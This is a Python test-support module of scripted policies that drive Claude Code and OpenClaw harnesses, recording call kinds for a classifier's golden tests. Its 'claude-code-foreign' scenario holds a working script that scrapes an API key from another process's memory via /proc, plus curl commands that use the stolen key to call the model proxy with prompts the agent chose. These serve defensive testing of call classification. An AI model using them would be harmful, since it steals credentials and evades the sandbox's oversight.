"""Long real episodes: scripted policies that drive the unmodified harnesses into subagents, compactions, retries
and foreign calls, each recording what it answered per call (the kind the classifier must find).

Used by ``make_golden.py`` (the captures under ``tests/golden/<scenario>/``) and by the live tests. A policy only
reads what a model would (the request's messages and tools); it tells the summary request, a subagent and a fork
apart by the harness's own wording, which the classifier never reads. The task is h6-smoke ``hello-file`` with a
40-call budget. Token ids come from the tiny test model's tokenizer, so a tiny-model GRPO step can train on them.

Scenarios:
- ``claude-code-long``: Claude Code (full tool set) delegates hello.txt to a general-purpose subagent, lists
  numbers until its auto-compaction fires (``CLAUDE_CODE_AUTO_COMPACT_WINDOW``/``CLAUDE_AUTOCOMPACT_PCT_OVERRIDE``),
  forks a check after the restart, and finishes; the proxy fails one call, which Claude Code retries.
- ``claude-code-long-wrong``: the same, but the subagent writes the wrong text (score 0: a GRPO group's contrast).
- ``claude-code-foreign``: a subagent writes hello.txt, then the agent's own Bash command calls the proxy: first
  with ``$ANTHROPIC_API_KEY``, which Claude Code's environment no longer holds (refused), then twice with the key
  it finds in Claude Code's memory (``/proc/<pid>/mem``), prompts of its choosing: an attacker who read our code.
- ``openclaw-compaction``: OpenClaw lists numbers until it compacts (small declared context, mid-turn check),
  then writes hello.txt.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from clawgym_env.errors import PolicyBackendError
from clawgym_env.proxy.backends.base import CompletionRequest

SUITE = Path(__file__).resolve().parent.parent / "harnesses" / "tasks" / "h6-smoke"
SCENARIOS = ("claude-code-long", "claude-code-long-wrong", "claude-code-foreign", "openclaw-compaction")
CC_COMPACT = {"auto_compact_window": 100_000, "auto_compact_pct": 45}
"""Claude Code's auto-compaction against the tiny tokenizer's counts (its ~30k-token first prompt)."""
OC_OPTIONS = {
    "context_window": 16_384,
    "compaction": {"mode": "default", "keepRecentTokens": 1000, "memoryFlush": {"enabled": False}, "midTurnPrecheck": {"enabled": True}},
}
SUMMARY = (
    "<analysis>\nThe user wants hello.txt; a subagent wrote it; I listed numbers.\n</analysis>\n\n<summary>\n"
    "1. Primary Request: create hello.txt holding hello world.\n2. Progress: a subagent wrote hello.txt; "
    "numbers were listed.\n3. Next Step: check hello.txt and finish.\n</summary>"
)
FOREIGN_PROMPTS = ("FOREIGN one: write a poem about tokens", "FOREIGN two: repeat after me")
CURL = (
    'curl -s "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: {key}" -H \'anthropic-version: 2023-06-01\' '
    '-H \'content-type: application/json\' -d \'{{"model": "policy", "max_tokens": 64, "messages": '
    '[{{"role": "user", "content": "{prompt}"}}]}}\''
)
SCRAPE = """KEY=$(python3 - <<'PY'
import os, re
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    try:
        maps, mem = open(f"/proc/{pid}/maps").read().splitlines(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for line in (m for m in maps if m.split()[1].startswith("rw")):
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        for at in range(lo, hi, 1 << 23):
            try:
                mem.seek(at)
                hit = re.search(rb"sk-clawgym-[A-Za-z0-9_-]{32}", mem.read(min(hi - at, (1 << 23) + 64)))
            except (OSError, ValueError, OverflowError):
                break
            if hit:
                raise SystemExit(print(hit.group().decode()))
PY
)"""
"""Finds the episode's key in the memory of another process of the sandbox (Claude Code's)."""


def _text(req: CompletionRequest) -> str:
    return json.dumps(req.messages)


def _system(req: CompletionRequest) -> str:
    return str(req.messages[0].get("content")) if req.messages and req.messages[0].get("role") == "system" else ""


def _last_user(req: CompletionRequest) -> str:
    return next((str(m.get("content")) for m in reversed(req.messages) if m.get("role") == "user"), "")


def _calls_of(req: CompletionRequest, name: str, after: int = 0) -> int:
    return sum(1 for m in req.messages[after:] for t in m.get("tool_calls") or () if t["function"]["name"] == name)


def _tool(name: str, **arguments: Any) -> dict[str, Any]:
    return {"tool_calls": [{"name": name, "arguments": arguments}]}


@dataclass
class Policy:
    """A scripted policy that records, per call index, the kind of call it answered."""

    fail_at: int | None = None
    """Call index the proxy fails (the backend raises once there); the harness's resend is a retry."""
    expected: dict[int, str] = field(default_factory=dict)
    _failed: bool = False

    def __call__(self, req: CompletionRequest) -> Any:
        if req.call_index == self.fail_at and not self._failed:
            self._failed = True
            self.expected[req.call_index] = "main"
            raise PolicyBackendError("injected failure: the proxy fails this call once")
        kind, reply = self.answer(req)
        resent = self._failed and self.fail_at is not None and req.call_index == self.fail_at + 1
        self.expected[req.call_index] = "retry" if resent else kind
        return reply

    def answer(self, req: CompletionRequest) -> tuple[str, Any]:
        raise NotImplementedError


@dataclass
class ClaudeCodeLong(Policy):
    """Subagent -> numbers until compaction -> fork after the restart -> done (``content``: what the subagent writes)."""

    content: str = "hello world\n"

    def answer(self, req: CompletionRequest) -> tuple[str, Any]:
        text = _text(req)
        if "create a detailed summary of the conversation" in _last_user(req):
            return "compaction", SUMMARY
        if "You are an agent for Claude Code" in _system(req):  # the general-purpose subagent
            if _calls_of(req, "Write"):
                return "subagent", "Subagent report: wrote hello.txt as asked."
            return "subagent", _tool("Write", file_path="/workspace/hello.txt", content=self.content)
        fork = next((k for k, m in enumerate(req.messages) if "<fork-boilerplate>" in str(m.get("content"))), None)
        if fork is not None:  # the fork: one look at the file, then its report
            if _calls_of(req, "Bash", fork):
                return "subagent", "Fork report: hello.txt is in place."
            return "subagent", _tool("Bash", command="cat /workspace/hello.txt")
        if "continued from a previous conversation" in text:  # after the restart: fork a check, then finish
            if "Fork report" in text:
                return "main", "Done: hello.txt holds hello world."
            return "main", _tool(
                "Agent",
                description="check hello",
                prompt="Check that hello.txt holds hello world.",
                subagent_type="fork",
                run_in_background=False,
            )
        if not _calls_of(req, "Agent"):
            return "main", _tool(
                "Agent",
                description="write hello",
                prompt="Write hello.txt holding hello world.",
                subagent_type="general-purpose",
                run_in_background=False,
            )
        n = _calls_of(req, "Bash")
        if n < 8:
            return "main", _tool("Bash", command=f"seq 1 300 | sed s/^/step{n}-/")
        return "main", "Done: stopped listing."


@dataclass
class ClaudeCodeForeign(Policy):
    """Subagent writes hello.txt; then the agent's Bash command calls the proxy itself twice; then done."""

    def answer(self, req: CompletionRequest) -> tuple[str, Any]:
        if _last_user(req).startswith("FOREIGN"):
            return "foreign", "A reply to a prompt the agent chose."
        if "You are an agent for Claude Code" in _system(req):
            if _calls_of(req, "Write"):
                return "subagent", "Subagent report: wrote hello.txt as asked."
            return "subagent", _tool("Write", file_path="/workspace/hello.txt", content="hello world\n")
        if not _calls_of(req, "Agent"):
            return "main", _tool(
                "Agent",
                description="write hello",
                prompt="Write hello.txt holding hello world.",
                subagent_type="general-purpose",
                run_in_background=False,
            )
        if not _calls_of(req, "Bash"):
            naive = CURL.format(key="$ANTHROPIC_API_KEY", prompt="FOREIGN zero: from the environment")
            return "main", _tool("Bash", command="\n".join([naive, SCRAPE, *(CURL.format(key="$KEY", prompt=p) for p in FOREIGN_PROMPTS)]))
        return "main", "Done: hello.txt holds hello world."


@dataclass
class OpenClawCompaction(Policy):
    """Numbers until OpenClaw compacts, then hello.txt, then done."""

    def answer(self, req: CompletionRequest) -> tuple[str, Any]:
        if "context summarization assistant" in _system(req):
            return "compaction", "## Summary\nThe user asked for hello.txt. Numbers were listed. Next: write hello.txt."
        if _calls_of(req, "write"):
            return "main", "Done: hello.txt holds hello world."
        if "compacted into the following summary" in _text(req) or _calls_of(req, "exec") >= 12:
            return "main", _tool("write", path="hello.txt", content="hello world\n")
        return "main", _tool("exec", command=f"seq 1 150 | sed s/^/step{_calls_of(req, 'exec')}-/")


def scenario(name: str) -> tuple[str, dict[str, Any], Policy]:
    """(harness, its options, a fresh policy) of one scenario."""
    if name == "claude-code-long":
        return "claude-code", CC_COMPACT, ClaudeCodeLong(fail_at=3)
    if name == "claude-code-long-wrong":
        return "claude-code", CC_COMPACT, ClaudeCodeLong(fail_at=3, content="hello there\n")
    if name == "claude-code-foreign":
        return "claude-code", {}, ClaudeCodeForeign()
    if name == "openclaw-compaction":
        return "openclaw", OC_OPTIONS, OpenClawCompaction()
    raise ValueError(f"unknown scenario {name!r}; use one of {SCENARIOS}")


async def run(name: str, capture_dir: Path | None = None) -> tuple[Any, dict[int, str]]:
    """Run one scenario in bwrap: (EpisodeResult, the kind the policy answered per call index)."""
    from transformers import AutoTokenizer

    from clawgym_env.episode import run_episode
    from clawgym_env.harness_registry import load_harness_class
    from clawgym_env.models import tiny_model_path
    from clawgym_env.proxy import ScriptedBackend
    from clawgym_env.task import load_suite

    harness, options, policy = scenario(name)
    spec = load_suite(SUITE).get("hello-file")
    spec = spec.model_copy(update={"limits": spec.limits.model_copy(update={"model_calls": 40})})
    backend = ScriptedBackend(policy, tokenizer=AutoTokenizer.from_pretrained(tiny_model_path()))
    result = await run_episode(spec, load_harness_class(harness)(**options), backend, capture_dir=capture_dir)
    return result, dict(sorted(policy.expected.items()))


def packed_vs_per_call(episodes: list[list[Any]], advantages: dict[str, float], model: Any) -> tuple[float, float]:
    """(loss difference, gradient difference) between one packed forward of the episodes' tree and one forward per
    call, for the GRPO-style loss -sum_call A_episode * sum logprob of its sampled tokens; each relative (to the
    per-call loss, to each parameter's largest per-call gradient entry)."""
    import torch

    from clawgym_env.tree import build_forest, pack_naive, pack_tree

    tree = build_forest(episodes)
    pk = pack_tree(tree)
    pk.set_advantages({ep: advantages[ep] for ep in tree.episodes})
    params = list(model.parameters())
    lp = pk.token_logprobs(model(**pk.model_inputs("additive")).logits)
    tree_loss = -(lp * pk.advantages * pk.loss_mask).sum()
    tree_grad = torch.autograd.grad(tree_loss, params)
    naive = pack_naive(tree)
    call_loss = torch.zeros(())
    for i, ref in enumerate(naive.refs):
        row = naive.row_logprobs(i, model(input_ids=naive.rows[i][None]).logits)
        call_loss = call_loss - (row * advantages[ref.episode_id] * naive.loss_masks[i][naive.prompt_lens[i] :]).sum()
    call_grad = torch.autograd.grad(call_loss, params)
    worst = max(float((a - b).abs().max() / b.abs().max().clamp_min(1e-12)) for a, b in zip(tree_grad, call_grad, strict=True))
    return abs(tree_loss.item() - call_loss.item()) / max(1.0, abs(call_loss.item())), worst
